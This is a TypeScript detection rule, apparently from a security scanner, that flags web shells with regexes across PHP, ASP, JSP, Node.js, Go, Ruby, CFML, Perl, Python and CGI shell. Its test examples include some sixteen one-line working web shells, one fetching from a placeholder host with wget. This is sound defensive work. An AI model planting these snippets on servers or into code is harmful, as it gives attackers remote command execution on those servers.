import type { Rule } from '../../rule.js';

export const rule: Rule = {
  pattern: 'web_shell',
  variant: 'page',
  threat: 'INJECTION',
  direction: 'inbound',
  severity: 'critical',
  confidence: 'high',
  group: 'commands',
  about: 'A page that runs whatever a request asks it to: who can place it on a server owns that server.',
  anatomy: 'an evaluation or a process whose argument is a request parameter, in PHP, ASP, JSP or Node.js',
  source: 'https://attack.mitre.org/techniques/T1505/003/',
  match: [
    {
      re: /(?:eval|assert|system|exec|shell_exec|passthru|popen|create_function|call_user_func(?:_array)?|array_map)\s*\(\s*@?(?:(?:base64_decode|gzinflate|str_rot13|stripslashes|trim|urldecode|hex2bin)\s*\(\s*)*@?\$_(?:get|post|request|cookie|server|files)\s*[[{]/i,
    },
    { re: /\$_(?:get|post|request|cookie)\s*\[[^\]\n]*\]\s*(?:;\s?@?\$\w+\s?)?\(\s*@?\$_(?:get|post|request|cookie)/i },
    {
      re: /(?:eval|assert)\s*\(\s*(?:gzinflate|gzuncompress|str_rot13|strrev|base64_decode)\s*\(\s*(?:gzinflate|str_rot13|strrev|base64_decode|["'][\w+/=]{24})/i,
    },
    { re: /preg_replace\s*\(\s*["']\/[^\n"']*\/\w*e\w*["']\s*,\s*\$_/i },
    // A page of one line whose whole purpose is a command: what an injected file or template holds.
    {
      re: /<\?php\s{1,3}@?(?:system|exec|shell_exec|passthru|popen)\s?\(\s?["'][^\n]*\)\s?;?\s?\?>/i,
      window: 300,
    },
    { re: /<\?php\s{1,3}@?(?:include|require)(?:_once)?[\s(]{1,2}@?\$_(?:get|post|request|cookie)/i },
    { re: /<%\s?(?:eval|execute|executeglobal)[\s(]+request\s*[.(["']/i },
    { re: /getruntime\(\)\s*\.exec\s*\(\s*request\.getparameter/i },
    { re: /(?:exec|execsync|spawn|eval)\s*\(\s*req(?:uest)?\.(?:query|body|params)\s*[.[]/i, window: 80 },
    // PHP, where the function is named in a text
    {
      re: /(?:array_map|array_filter|call_user_func(?:_array)?|register_shutdown_function)\s*\(\s*@?["'](?:system|exec|shell_exec|passthru|assert)["']\s*,[^;\n]*\$_(?:get|post|request|cookie)/i,
      window: 120,
    },
    // Go, Ruby, CFML and a shell behind CGI
    { re: /exec\.Command\(\s?"(?:\/bin\/)?(?:ba)?sh",\s?"-c",\s?\w+\.(?:URL\.Query|FormValue|PostFormValue)\(/ },
    { re: /(?<!\w)(?:`#\{|(?:system|exec|eval|popen)[ (])\s?params\[/ },
    { re: /<cfexecute\s[^>]*#(?:url|form)\./i, window: 160 },
    { re: /(?<![\w.-])eval\s[^\n;]*\$\{?QUERY_STRING(?!\w)/, window: 100 },
    // A parameter of the request by the old modules: CGI.pm, and url of Node.js
    { re: /(?:system|exec|popen|eval|qx)\s?[({]\s?["']?\$\w+->param\(/ },
    { re: /exec(?:sync)?\(\s?(?:require\(["']url["']\)|url)\.parse\([^\n;]*\.query(?:\.|\[)/i, window: 120 },
    {
      re: /(?:os\.system|os\.popen|subprocess\.(?:run|call|popen|check_output)|eval|exec)\s*\(\s*request\.(?:args|form|values|get|post|json|params)/i,
    },
  ],
  examples: {
    fires: [
      '<?php @eval($_POST["x"]); ?>',
      "<?php system(base64_decode($_REQUEST['c'])); ?>",
      "<?php $_GET['a']($_GET['b']); ?>",
      '<%eval request("cmd")%>',
      '<?php system("wget https://files.invalid/x?m=1");?>',
      "<?php include($_GET['page']); ?>",
      '<?php $f = $_GET["f"]; $f($_POST["a"]); ?>',
      "<?php array_map('system', [$_GET['c']]); ?>",
      'o, _ := exec.Command("sh", "-c", r.URL.Query().Get("cmd")).Output()',
      "get '/x' do\n  `#{params[:cmd]}`\nend",
      '<cfexecute name="/bin/sh" arguments="-c #url.cmd#" timeout="5"></cfexecute>',
      '#!/bin/sh\neval "$(echo "$QUERY_STRING" | cut -d= -f2)"',
      "my $q = CGI->new; system($q->param('cmd'));",
      'exec(url.parse(req.url, true).query.cmd, (e, out) => res.end(out))',
      'Runtime.getRuntime().exec(request.getParameter("cmd"));',
      "eval(gzinflate(base64_decode('7X1rd9s2')));",
    ],
    silent: [
      "$name = htmlspecialchars($_GET['name']);",
      'exec($command, $output);',
      'const id = req.query.id;',
      "array_map('trim', $_GET['names']);",
      'query = Post.where(id: params[:id])',
      'exec.Command("sh", "-c", script).Run()',
      'IFS="&" read -ra args <<< "$QUERY_STRING"',
      "$a = $_GET['a']; $b = count($_GET['b']);",
      "my $name = $q->param('name'); system('date');",
      "<?php\n// outputs the user\necho exec('whoami');\n?>",
      "base64_decode($_POST['data'])",
    ],
  },
};
